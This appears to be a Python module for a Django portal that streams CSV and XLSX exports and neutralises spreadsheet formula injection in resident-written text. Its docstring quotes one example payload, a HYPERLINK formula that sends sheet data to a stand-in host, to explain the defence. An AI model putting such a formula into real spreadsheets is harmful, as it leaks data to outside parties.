"""Every CSV and XLSX the portal sends: streamed, and never a live formula.

Residents write free text (survey answers, display names, help offers) that staff open in a
spreadsheet. A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as
a formula (`=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet away), so such text is
prefixed with an apostrophe in CSV, and written as a plain string cell (never `<f>`, with Excel's
"quote prefix" style) in XLSX. Numbers and dates stay numbers and dates.
"""

import csv
import re
import tempfile
from collections.abc import Iterable, Iterator

from django.http import FileResponse, StreamingHttpResponse
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Characters XML 1.0 cannot hold: openpyxl refuses them, so a stray one would be a 500.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _text(value):
    return str(value) if isinstance(value, Promise) else value


def is_formula_like(value) -> bool:
    value = _text(value)
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """A cell as the CSV writer gets it: formula-like text neutralised by a leading apostrophe."""
    value = _text(value)
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose write() hands back the line, so csv.writer can feed a stream."""

    def write(self, value):
        return value


def csv_lines(rows: Iterable[Iterable], *, bom: bool = True) -> Iterator[str]:
    """Lines of a CSV, one at a time. The BOM lets spreadsheet programs read the accents."""
    writer = csv.writer(_Echo())
    if bom:
        yield "\ufeff"
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_response(rows: Iterable[Iterable], *, filename: str, bom: bool = True, no_store=False):
    response = StreamingHttpResponse(
        csv_lines(rows, bom=bom), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if no_store:
        response["Cache-Control"] = "no-store"
    return response


def _xlsx_cell(sheet, value):
    from openpyxl.cell import WriteOnlyCell

    value = _text(value)
    if isinstance(value, str):
        value = _ILLEGAL_XML.sub("", value)
        cell = WriteOnlyCell(sheet)
        # Set the value, then force the type: openpyxl turns "=…" into a formula and "#N/A"
        # into an error cell on its own.
        cell.value = value
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True  # Excel keeps it text even when someone edits the cell
        return cell
    return value


def xlsx_write(handle, sheets: Iterable[tuple[str, Iterable[Iterable]]]) -> None:
    """Write a workbook of (sheet title, rows) to `handle`, row by row (write-only mode)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    used: set[str] = set()
    for title, rows in sheets:
        sheet = workbook.create_sheet(sheet_title(title, used))
        for row in rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    if not used:
        workbook.create_sheet("Sheet")
    workbook.save(handle)


def xlsx_response(
    sheets: Iterable[tuple[str, Iterable[Iterable]]], *, filename: str, no_store=False
):
    """openpyxl writes rows to a temporary file as they come; the file is then streamed."""
    handle = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115  (FileResponse closes it)
    xlsx_write(handle, sheets)
    handle.seek(0)
    response = FileResponse(
        handle, as_attachment=True, filename=filename, content_type=XLSX_CONTENT_TYPE
    )
    if no_store:
        response["Cache-Control"] = "no-store"
    return response


def sheet_title(title, used: set[str]) -> str:
    """A valid, unique sheet name (31 characters, none of []:*?/\\)."""
    base = re.sub(r"[\[\]:*?/\\]", " ", str(title))[:28].strip() or "Sheet"
    name, n = base, 2
    while name.lower() in used:
        name = f"{base[:26]} {n}"
        n += 1
    used.add(name.lower())
    return name
